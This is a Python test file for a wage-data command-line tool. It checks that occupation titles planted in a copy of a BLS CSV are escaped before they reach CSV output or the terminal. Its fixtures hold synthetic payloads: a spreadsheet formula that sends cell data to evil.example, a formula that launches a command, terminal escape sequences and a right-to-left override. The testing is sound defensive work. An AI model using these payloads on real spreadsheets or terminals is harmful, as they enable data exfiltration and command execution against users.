"""Hostile text from an input file, round two: titles that are spreadsheet formulas, terminal escape sequences and
bidirectional overrides reach no terminal raw and no CSV cell as a formula (``show --format csv`` and the table,
``info``). SYNTHETIC payloads written into a copy of BLS's real May 2016 national CSV (first rows)."""

from __future__ import annotations

import csv
import io
import os
import shutil

import pytest

from analysis import paths, store
from analysis.text import FORMULA_START
from cli_runs import run_cli
from real_file_edits import CSV_2016, column_index, csv_rows_2016, write_csv

#: SYNTHETIC titles: a formula that sends a cell to a server, a formula running a command, the escape sequences
#: that retitle (OSC 0 ... BEL) and clear (CSI 2J) a terminal, and a right-to-left override.
OCC_TITLE = '=HYPERLINK("http://evil.example/?"&A2,"Click")\x1b]0;owned\x07'
OTHER_TITLE = "-2+3+cmd|' /C calc'!A0\x1b[2J\u202egnp.exe"
CODE, OTHER_CODE = "11-1021", "11-1011"
RAW = ("\x1b", "\x07", "\u202e")


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile") / "project"
    (root / "data" / "processed").mkdir(parents=True)
    shutil.copytree(paths.checkout_root() / "data" / "raw" / "oe", root / "data" / "raw" / "oe")

    rows = csv_rows_2016()
    occ, title = (column_index(rows[0], c) for c in ("occ_code", "occ_title"))
    for row in rows[1:]:
        if row[occ] == CODE:
            row[title] = OCC_TITLE
        elif row[occ] == OTHER_CODE:
            row[title] = OTHER_TITLE
    workbook = write_csv(tmp_path_factory.mktemp("hostile-input") / CSV_2016.name, rows)
    previous = os.environ.get("HIM_WAGES_HOME")
    os.environ["HIM_WAGES_HOME"] = str(root)
    try:
        store.build([workbook])
        yield root
    finally:
        if previous is None:
            os.environ.pop("HIM_WAGES_HOME", None)
        else:
            os.environ["HIM_WAGES_HOME"] = previous


def _run(capsys, monkeypatch, home, *args):
    monkeypatch.setenv("HIM_WAGES_HOME", str(home))
    return run_cli(capsys, *args)


def test_show_csv_has_no_formula_cell_and_no_raw_escape(hostile_home, capsys, monkeypatch):
    code, out, err = _run(capsys, monkeypatch, hostile_home, "show", CODE, "--year", "2016", "--format", "csv")
    assert code == 0, err
    assert not any(ch in out + err for ch in RAW)
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    header = rows[0]
    record = dict(zip(header, rows[1], strict=True))
    assert record["occ_title"].startswith("'=HYPERLINK(") and "\\x1b]0;owned\\x07" in record["occ_title"]
    assert record["a_mean"] and float(record["a_mean"]) > 0  # numbers stay numbers
    code, out, err = _run(capsys, monkeypatch, hostile_home, "show", OTHER_CODE, "--year", "2016", "--format", "csv")
    assert code == 0, err
    record = next(csv.DictReader(io.StringIO(out)))
    assert record["occ_title"].startswith("'-2+3+cmd") and "\\u202e" in record["occ_title"] and "\u202e" not in out


def test_show_table_and_info_print_no_raw_escape(hostile_home, capsys, monkeypatch):
    code, out, err = _run(capsys, monkeypatch, hostile_home, "show", CODE, "--year", "2016")
    assert code == 0, err
    assert not any(ch in out + err for ch in RAW) and "\\x1b" in out
    code, out, err = _run(capsys, monkeypatch, hostile_home, "info")
    assert code == 0, err
    assert not any(ch in out + err for ch in RAW)
    code, out, err = _run(capsys, monkeypatch, hostile_home, "info", "--occupations")  # titles are listed on request
    assert code == 0, err
    assert not any(ch in out + err for ch in RAW) and "\\x1b]0;owned" in out and "\\u202egnp.exe" in out
